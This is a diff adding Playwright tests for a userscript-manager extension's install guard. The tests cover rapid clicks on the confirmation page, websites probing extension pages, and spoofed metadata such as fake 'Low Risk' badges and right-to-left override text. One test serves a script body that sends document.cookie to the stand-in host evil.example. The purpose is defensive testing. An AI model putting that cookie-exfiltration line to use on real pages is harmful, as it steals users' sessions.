@@ -1,0 +1,118 @@
+import { expect, type Page } from "@playwright/test";
+import type { ExtensionBrowser } from "../support/extension.ts";
+import { test, userscript } from "./extension-fixture.ts";
+
+const JAVASCRIPT = "text/javascript; charset=utf-8";
+
+/** A page whose clock stands still: time passes with `pass` only. */
+async function openStill({ context }: ExtensionBrowser): Promise<Page> {
+	const page = await context.newPage();
+	await page.clock.install({ time: 1_000_000 });
+	await page.clock.pauseAt(2_000_000);
+	return page;
+}
+
+const pass = (page: Page, milliseconds: number): Promise<void> => page.clock.runFor(milliseconds);
+
+/** Presses where the button is, whatever is there, as often as somebody in a hurry does; and with both keys that activate it. */
+async function pressWildly(page: Page, name: string | RegExp): Promise<void> {
+	const button = page.getByRole("button", { name, exact: true });
+	const box = await button.boundingBox();
+	if (box === null) throw new Error("the button is not on the page");
+	for (let press = 0; press < 8; press++) {
+		await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
+		await pass(page, 150);
+	}
+	await button.focus();
+	await page.keyboard.press("Enter");
+	await page.keyboard.press("Space");
+}
+
+test.describe("extension-guard", () => {
+	test("a website brings up the confirmation page, and no press that was meant for the site installs", async ({
+		fixture: { hub },
+		browserWithExtension: browser,
+	}) => {
+		hub.serve("/trap.user.js", userscript(["name Trap", "version 1", "match *://*/*"], "void 0;"), JAVASCRIPT);
+		const confirmation = await openStill(browser);
+		await confirmation.goto(`${hub.strangerOrigin}/trap.user.js`);
+		const install = confirmation.getByRole("button", { name: "Install", exact: true });
+		await expect(confirmation.getByRole("region", { name: "Security rating" })).toContainText("Low Risk");
+		await pressWildly(confirmation, "Install");
+		await expect(install).toBeDisabled();
+		await pass(confirmation, 2000);
+		await expect(install).toBeEnabled();
+		// Another page comes to the front, and this one again.
+		await confirmation.evaluate(() => dispatchEvent(new Event("focus")));
+		await pressWildly(confirmation, "Install");
+		await expect(install).toBeDisabled();
+		await pass(confirmation, 2000);
+		await install.click();
+		await expect(confirmation.getByRole("heading", { name: "Trap is installed" })).toBeVisible();
+	});
+
+	test("a website can neither open pages of the extension nor find out that it is installed", async ({
+		fixture: { hub },
+		browserWithExtension: browser,
+	}) => {
+		const site = await browser.context.newPage();
+		await site.goto(`${hub.strangerOrigin}/plain`);
+		const address = browser.pageUrl("confirm-install.html?url=https://evil.example/x.user.js");
+		for (const path of ["confirm-install.html", "sign-in.html", "options.html", "manifest.json", "icon/48.png"]) {
+			const seen = await site.evaluate(
+				(url) =>
+					fetch(url).then(
+						() => "seen",
+						() => "hidden",
+					),
+				browser.pageUrl(path),
+			);
+			// The site is on another port of the hub's host, which match patterns cannot tell apart.
+			expect([path, seen]).toEqual([path, path === "sign-in.html" ? "seen" : "hidden"]);
+		}
+		const opened = browser.context.waitForEvent("page");
+		await site.evaluate((url) => void open(url), address);
+		const popup = await opened;
+		await popup.waitForLoadState();
+		expect(popup.url()).not.toContain("confirm-install");
+	});
+
+	test("the rating stays in view and above the name, whatever the author wrote", async ({
+		fixture: { hub },
+		browserWithExtension: browser,
+	}) => {
+		const page = await browser.context.newPage();
+		for (const [path, name] of [
+			["long", `Long ${"name ".repeat(1000)}`],
+			["joined", "W".repeat(5000)],
+			["claim", "✅ Low Risk ✅ Verified 🛡️ 100/100"],
+			["marks", `Z${"\u0301".repeat(5000)}\u202eksiR woL`],
+		] as const) {
+			const lines = [
+				`name ${name}`,
+				`author ${name}`,
+				`version ${"9".repeat(5000)}`,
+				`description ${name}`,
+				"match *://*/*",
+			];
+			const steals = 'fetch("https://evil.example/?" + document.cookie);';
+			hub.serve(`/${path}.user.js`, userscript(lines, steals), JAVASCRIPT);
+			for (const width of [390, 1280]) {
+				await page.setViewportSize({ width, height: 800 });
+				await page.goto(`${hub.strangerOrigin}/${path}.user.js`);
+				const rating = page.getByRole("region", { name: "Security rating" });
+				const level = rating.locator("[data-risk=red]");
+				await expect(level).toBeInViewport({ ratio: 1 });
+				await expect(page.getByRole("button", { name: "Install", exact: true })).toBeInViewport({ ratio: 1 });
+				const badge = await level.boundingBox();
+				const named = await rating.getByText("Named by its author:").boundingBox();
+				expect((named?.y ?? 0) - (badge?.y ?? 0)).toBeGreaterThan(0);
+				await page.getByRole("region", { name: "Full code" }).scrollIntoViewIfNeeded();
+				await page.mouse.wheel(0, 10_000);
+				await expect(level).toBeInViewport({ ratio: 1 });
+				expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
+				expect(await page.getByText(/[✅🛡]/u).count()).toBe(0);
+			}
+		}
+	});
+});
